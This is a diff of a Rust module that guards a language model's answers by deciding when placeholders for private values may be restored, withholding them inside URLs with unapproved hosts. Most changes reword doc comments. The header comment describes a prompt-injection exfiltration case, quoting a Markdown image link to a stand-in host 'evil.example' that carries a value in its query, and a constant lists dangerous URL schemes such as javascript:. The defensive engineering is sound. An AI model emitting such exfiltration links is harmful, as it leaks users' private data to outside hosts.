@@ -1,12 +1,13 @@
-//! Decides by its place in a text whether a placeholder may be restored.
+//! Decides by its position in a text whether a placeholder may be restored.
 //!
-//! A model, or a text that was smuggled into its context, can carry a value out: `![x](https://evil.example/?q=…)` is
-//! fetched by the page that shows the answer. So a placeholder inside a URL is restored only where every host of the
-//! URL is one that the caller wrote, or that the workspace allows. In plain text it is always restored.
+//! A model, or a text injected into its context, can exfiltrate a value: a page that shows the answer fetches
+//! `![x](https://evil.example/?q=…)`. So a placeholder inside a URL is restored only if the caller wrote
+//! every host of the URL, or the workspace allows it. In plain text it is always restored.
 //!
-//! Two automata read the text once, character by character, with the values in place of the placeholders: one follows
-//! words, bare URLs and the destinations of Markdown links, the other one HTML tags. The stricter verdict holds. Both see
-//! the text alone, so a verdict does not depend on the chunks. What is not decided yet is at most the current URL.
+//! Two automata read the text once, character by character, with the values instead of the placeholders: one
+//! parses words, bare URLs and the destinations of Markdown links, the other one HTML tags. The stricter
+//! verdict holds. Both read only the text, so a verdict does not depend on the chunks. At most the current
+//! URL is undecided.
 
 use std::{collections::VecDeque, mem, ops::Range};
 
@@ -14,28 +15,29 @@ use percent_encoding::percent_decode_str;
 
 use super::hosts::{Hosts, host_of, is_host_letter, is_named_host};
 
-/// Longest URL, word or attribute that is read, in bytes. Placeholders behind that are withheld until it ends.
+/// The longest URL, word or attribute that is read, in bytes. Placeholders after that are withheld until it
+/// ends.
 const MAX_TARGET: usize = 2_048;
-/// Longest name of an HTML tag or attribute, in bytes.
+/// The longest name of an HTML tag or attribute, in bytes.
 const MAX_NAME: usize = 32;
 
-/// How a restored value is written.
+/// The encoding of a restored value.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
 pub(super) enum Encoding {
-    /// As it is.
+    /// Unencoded.
     Plain,
     /// As text in an HTML attribute.
     Html,
-    /// As it is, as the whole of a URL up to its path.
+    /// Unencoded, as the whole of a URL up to its path.
     Target,
-    /// As a part of a URL behind its authority.
+    /// Percent-encoded, as a part of a URL after its authority.
     Url,
 }
 
-/// What becomes of a placeholder.
+/// The verdict on a placeholder.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
 pub(super) enum Verdict {
-    /// Its value takes its place.
+    /// It is replaced by its value.
     Restore(Encoding),
     /// It stays.
     Withhold,
@@ -44,7 +46,7 @@ pub(super) enum Verdict {
 const PLAIN: Verdict = Verdict::Restore(Encoding::Plain);
 const TARGET: Verdict = Verdict::Restore(Encoding::Target);
 
-/// Reads a text of an answer and decides about the placeholders in it, in their order.
+/// Reads the text of an answer and decides on its placeholders, in order.
 #[derive(Default)]
 pub(super) struct PlaceReader {
     words: Words,
@@ -60,19 +62,19 @@ impl PlaceReader {
         }
     }
 
-    /// Reads a placeholder that stands for `value`.
+    /// Reads a placeholder with its `value`.
     pub(super) fn placeholder(&mut self, value: &str, hosts: &Hosts) {
         self.words.placeholder(value, hosts);
         self.markup.placeholder(value, hosts);
     }
 
-    /// Ends the text: every placeholder is decided then.
+    /// Ends the text; every placeholder is then decided.
     pub(super) fn finish(&mut self, hosts: &Hosts) {
         self.words.end(hosts);
         self.markup.end(hosts);
     }
 
-    /// The verdict about the next placeholder; none where more text has to come first.
+    /// Returns the verdict on the next placeholder; `None` if it needs more text.
     pub(super) fn next(&mut self) -> Option<Verdict> {
         let (words, markup) = (self.words.target.verdicts.front()?, self.markup.target.verdicts.front()?);
         let verdict = *words.max(markup);
@@ -82,7 +84,7 @@ impl PlaceReader {
     }
 }
 
-/// A word, URL or attribute with the values in place of its placeholders.
+/// A word, URL or attribute with the values instead of its placeholders.
 #[derive(Default)]
 struct Target {
     text: String,
@@ -112,7 +114,7 @@ impl Target {
         self.open.push_back(start..self.text.len());
     }
 
-    /// Gives the open placeholders the verdicts that `judge` has for them.
+    /// Sets the verdicts of the open placeholders for which `judge` returns one.
     fn decide(&mut self, judge: impl Fn(&str, &Range<usize>) -> Option<Verdict>) {
         while let Some(verdict) = self.open.front().and_then(|range| judge(&self.text, range)) {
             self.open.pop_front();
@@ -120,7 +122,7 @@ impl Target {
         }
     }
 
-    /// Gives all open placeholders this verdict.
+    /// Sets the verdict of all open placeholders.
     fn close(&mut self, verdict: Verdict) {
         self.verdicts.extend(mem::take(&mut self.open).into_iter().map(|_| verdict));
     }
@@ -132,24 +134,24 @@ impl Target {
     }
 }
 
-/// What the words around a placeholder are a part of.
+/// The syntax around a placeholder.
 #[derive(Clone, Copy, Default, PartialEq, Eq)]
 enum UrlPart {
     /// A word, which may be a bare URL.
     #[default]
     Word,
-    /// The parentheses of a Markdown link or image, so deep.
+    /// A Markdown link or image, with the depth of its parentheses.
     Link(usize),
     /// The destination of a reference definition, which may be on the next line.
     Definition { has_begun: bool },
 }
 
-/// Follows words, bare URLs and Markdown.
+/// Parses words, bare URLs and Markdown.
 #[derive(Default)]
 struct Words {
     part: UrlPart,
     target: Target,
-    /// The character before; none at the beginning and behind a placeholder.
+    /// The preceding character; `None` at the start and after a placeholder.
     last: Option<char>,
 }
 
@@ -231,22 +233,23 @@ impl Words {
     }
 }
 
-/// Whether a character may decide about a placeholder before it: letters of a host and its port only go on.
+/// Whether a character may decide on a placeholder before it: letters of a host and its port only continue
+/// it.
 fn is_decisive(letter: char) -> bool {
     !is_host_letter(letter) && letter != ':'
 }
 
-/// Whether a character ends a word. Those that only some programs take for the end of a URL do not.
+/// Whether a character ends a word, in all programs that detect URLs.
 fn is_end_of_word(letter: char) -> bool {
     letter.is_whitespace() || letter.is_control() || matches!(letter, '<' | '>' | '"')
 }
 
-/// Follows HTML tags and their attributes.
+/// Parses HTML tags and their attributes.
 #[derive(Default)]
 struct Markup {
     state: MarkupState,
     target: Target,
-    /// The name of the tag, and of the attribute, in small letters.
+    /// The name of the tag, and of the attribute, in lower case.
     tag: String,
     attribute: String,
     /// A space follows the name of the attribute.
@@ -260,12 +263,12 @@ struct Markup {
 enum MarkupState {
     #[default]
     Text,
-    /// Behind `<`.
+    /// After `<`.
     Opening,
     TagName,
     /// Between the attributes of a tag, or in the name of one.
     Tag,
-    /// Behind the equals sign of an attribute.
+    /// After the equals sign of an attribute.
     BeforeValue,
     /// In the value of an attribute, in these quotation marks.
     Value(Option<char>, Attribute),
@@ -273,14 +276,14 @@ enum MarkupState {
     Code,
 }
 
-/// What the value of an attribute is.
+/// The kind of an attribute's value.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Attribute {
-    /// Text that is shown or read aloud.
+    /// Visible or spoken text.
     Text,
     /// A URL.
     Url,
-    /// Code, styles, several URLs, or what a form sends.
+    /// Code, styles, several URLs, or data of a form.
     Other,
 }
 
@@ -438,14 +441,14 @@ fn attribute(name: &str) -> Attribute {
     }
 }
 
-/// Schemes of URLs that have no host: what they hold is shown or run.
+/// Schemes of URLs without a host: their content is shown or run.
 const OPAQUE: [&str; 7] = ["data:", "javascript:", "vbscript:", "blob:", "file:", "intent:", "view-source:"];
-/// Schemes of URLs that lead to a person.
+/// Schemes of URLs that address a person.
 const PERSONAL: [&str; 4] = ["mailto:", "tel:", "sms:", "callto:"];
-/// What ends the authority of a URL.
+/// Characters that end the authority of a URL.
 const END_OF_AUTHORITY: [char; 4] = ['/', '\\', '?', '#'];
 
-/// The verdict about a placeholder in a word; none where more of the word has to come first.
+/// Returns the verdict on a placeholder in a word; `None` if it needs more of the word.
 fn in_word(word: &str, range: &Range<usize>, hosts: &Hosts, ends: bool) -> Option<Verdict> {
     let (before, behind) = (word.get(..range.start)?, word.get(range.end..)?);
     if find_scheme(before, &OPAQUE).is_some() {
@@ -461,7 +464,7 @@ fn in_word(word: &str, range: &Range<usize>, hosts: &Hosts, ends: bool) -> Optio
     Some(links.verdict(word, range, hosts))
 }
 
-/// The verdict about a placeholder in the destination of a link; none where more of it has to come first.
+/// Returns the verdict on a placeholder in the destination of a link; `None` if it needs more of it.
 fn in_destination(written: &str, range: &Range<usize>, hosts: &Hosts, ends: bool) -> Option<Verdict> {
     let (before, behind) = (written.get(..range.start)?, written.get(range.end..)?);
     let start = decoded(before);
@@ -478,7 +481,7 @@ fn in_destination(written: &str, range: &Range<usize>, hosts: &Hosts, ends: bool
     let whole = decoded(written);
     let whole = whole.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '<');
     let Some((authority, is_closed)) = authority(whole) else {
-        // a destination without a host, or the beginning of one
+        // a destination without a host, or a prefix of one
         return ends.then_some(Verdict::Withhold);
     };
     if !is_closed && !ends {
@@ -498,9 +501,9 @@ fn in_destination(written: &str, range: &Range<usize>, hosts: &Hosts, ends: bool
     })
 }
 
-/// Splits off the authority of an absolute destination, and says whether its end is known.
+/// Splits off the authority of an absolute destination; also returns whether its end is known.
 ///
-/// Returns `None` for a relative destination, and while the text is too short to tell.
+/// Returns `None` for a relative destination, and while the text is too short to decide.
 fn authority(destination: &str) -> Option<(&str, bool)> {
     let slash = |letter: char| matches!(letter, '/' | '\\' | '\t' | '\n' | '\r');
     let scheme =
@@ -521,7 +524,7 @@ fn authority(destination: &str) -> Option<(&str, bool)> {
     Some((authority.get(..end.unwrap_or(authority.len()))?, end.is_some()))
 }
 
-/// The verdict about a placeholder in an address of a person: it must be one whole recipient.
+/// Returns the verdict on a placeholder in an address of a person: it must be one whole recipient.
 fn of_person(before: &str, behind: &str, ends: bool) -> Option<Verdict> {
     let is_recipient = !before.contains('?') && (before.is_empty() || before.ends_with(','));
     if !is_recipient {
@@ -535,12 +538,12 @@ fn of_person(before: &str, behind: &str, ends: bool) -> Option<Verdict> {
     }
 }
 
-/// Whether a sign may follow a URL without being a part of it.
+/// Whether a character may follow a URL without being part of it.
 fn is_sign(letter: char) -> bool {
     ".,;:!?)]}*_'`|”’»".contains(letter)
 }
 
-/// Finds one of the schemes at the beginning of a word: the byte after its colon.
+/// Finds one of the schemes at the start of a word; returns the byte after its colon.
 fn find_scheme(text: &str, schemes: &[&str]) -> Option<usize> {
     text.match_indices(':').map(|(at, _)| at + 1).find(|end| {
         let Some(before) = text.get(..*end) else { return false };
@@ -558,13 +561,13 @@ fn strip_scheme<'t>(text: &'t str, scheme: &str) -> Option<&'t str> {
     found.eq_ignore_ascii_case(scheme).then_some(rest)
 }
 
-/// The hosts of the URLs in a word that a placeholder is a part of.
+/// The hosts of the URLs in a word that contains a placeholder.
 struct Links {
-    /// Each host as it is written; none where it cannot be one.
+    /// Each host as written; `None` if it is not a valid host.
     hosts: Vec<Option<String>>,
-    /// Where the first authority ends, in bytes of the word.
+    /// The end of the first authority, in bytes of the word.
     path: Option<usize>,
-    /// The word may become a URL, or its authority may go on.
+    /// The word may become a URL, or its authority may continue.
     may_go_on: bool,
 }
 
@@ -572,7 +575,7 @@ impl Links {
     fn of(word: &str, range: &Range<usize>, ends: bool) -> Self {
         let mut links = Self { hosts: Vec::new(), path: None, may_go_on: false };
         links.read(word, range, ends);
-        // a URL may hold another one, which its host redirects to
+        // a URL may contain another one, as the target of a redirect
         if word.contains('%') {
             let decoded = percent_decode_str(word).decode_utf8_lossy();
             for (at, _) in decoded.match_indices("//") {
@@ -590,7 +593,7 @@ impl Links {
                     .trim_end_matches(|letter: char| letter.is_ascii_alphanumeric() || "+-.".contains(letter))
                     .len()
             });
-            // a URL that begins behind the placeholder
+            // a URL that begins after the placeholder
             if range.end <= scheme.unwrap_or(at)
                 || range.end <= at && scheme.is_some_and(|start| start < range.end)
             {
@@ -604,7 +607,7 @@ impl Links {
         self.bare(word, range, ends);
     }
 
-    /// Reads the authority behind two slashes. Without a scheme it is one only where it looks like a host.
+    /// Reads the authority after two slashes. Without a scheme it must look like a host.
     fn authority(&mut self, behind: &str, before: Option<&str>, ends: bool) {
         let behind = behind.trim_start_matches(['/', '\\']);
         let end = behind.find(END_OF_AUTHORITY);
@@ -630,7 +633,7 @@ impl Links {
             Some(end) => {
                 let (start, host) = run(end);
                 let name = host.split_once(':').map_or(host, |(name, _)| name);
-                // `jan@example.com/+420 …` is no URL
+                // `jan@example.com/+420 …` is not a URL
                 let is_mail = word.get(..start).is_some_and(|before| before.ends_with('@'));
                 if start < range.end
                     && !is_mail
@@ -643,7 +646,7 @@ impl Links {
             }
             None => {
                 let (start, host) = run(word.len());
-                // more of the host, or its path, may follow
+                // the host may continue, or its path may follow
                 self.may_go_on |= start < range.end && !ends;
                 let name = host.trim_start_matches(['_', '-']);
                 if start < range.end && ends && strip_scheme(name, "www.").is_some() {
@@ -678,8 +681,8 @@ fn end_of_authority(word: &str, from: usize) -> Option<usize> {
     Some(from + (rest.len() - authority.len()) + authority.find(END_OF_AUTHORITY)?)
 }
 
-/// Whether a placeholder stands for the whole host of a URL, or for all of it up to its path: nobody else is told
-/// anything by it.
+/// Whether a placeholder is the whole host of a URL, or all of it up to its path: then no third party
+/// receives the value.
 fn is_whole_target(text: &str, range: &Range<usize>) -> bool {
     let (Some(before), Some(value), Some(behind)) =
         (text.get(..range.start), text.get(range.clone()), text.get(range.end..))
@@ -704,7 +707,7 @@ fn is_whole_target(text: &str, range: &Range<usize>) -> bool {
     }
 }
 
-/// A destination without the escapes of Markdown and the entities of HTML.
+/// Removes the escapes of Markdown and the entities of HTML from a destination.
 fn decoded(written: &str) -> String {
     let mut out = String::with_capacity(written.len());
     let mut rest = written;
@@ -747,10 +750,10 @@ mod tests {
     const EMAIL: &str = "jan@example.cz";
     const NAME: &str = "Jan \"J\" & Novák";
     const WIKI: &str = "https://wiki.acme.example/start";
-    /// A tool's own address, which the caller did not write.
+    /// The address of a tool, which the caller did not write.
     const TOOLS: &str = "https://tool.example/a";
 
-    /// The text, in these chunks, after it was restored. `@E`, `@N`, `@W`, `@T` and `@D` stand for placeholders.
+    /// Returns the restored text, in these chunks. `@E`, `@N`, `@W`, `@T` and `@D` are placeholders.
     fn restored(text: &str, cuts: &[prop::sample::Index]) -> (String, RestoreCounts) {
         let rules = |_: &str| (Vec::new(), Some(Action::Flag));
         let guard = Guard::new(&DetectOptions::default(), rules, Keyring::new(0, SECRET).unwrap()).unwrap();
@@ -791,7 +794,7 @@ mod tests {
         (out, answer.restores())
     }
 
-    /// Texts in which every value is restored, and what they become.
+    /// Texts in which every value is restored, with the results.
     const RESTORED: &[(&str, &str)] = &[
         ("Write to @E.", "Write to jan@example.cz."),
         ("@E", "jan@example.cz"),
@@ -823,7 +826,7 @@ mod tests {
             title='Jan &quot;J&quot; &amp; Novák'>Jan \"J\" & Novák</a>",
         ),
         ("https://wiki.acme.example/%@E", "https://wiki.acme.example/jan%40example.cz"),
-        // the whole of a target, whoever named it
+        // a whole target, whoever wrote it
         ("see @T.", "see https://tool.example/a."),
         (
             "[x](@T) and [y](@W?q=@E)",
@@ -940,7 +943,7 @@ mod tests {
         }
     }
 
-    /// Only the part of a URL that tells somebody something is withheld.
+    /// Only the part of a URL that carries data is withheld.
     #[test]
     fn a_target_of_a_tool_gets_nothing_else() {
         let (got, counts) = restored("![x](@T?q=@E)", &[]);
@@ -948,7 +951,7 @@ mod tests {
         assert_eq!((counts.restored, counts.withheld_from_urls), (1, 1));
     }
 
-    /// Nothing but the current URL is held.
+    /// Only the current URL is held back.
     #[test]
     fn what_is_held() {
         for (text, want) in [
@@ -965,7 +968,7 @@ mod tests {
         }
     }
 
-    /// A URL without an end costs no more than its length.
+    /// The cost of an endless URL is linear in its length.
     #[test]
     fn long_targets_are_withheld() {
         let text = format!("https://{}@E/{} @E", "a".repeat(MAX_TARGET), "b".repeat(100));
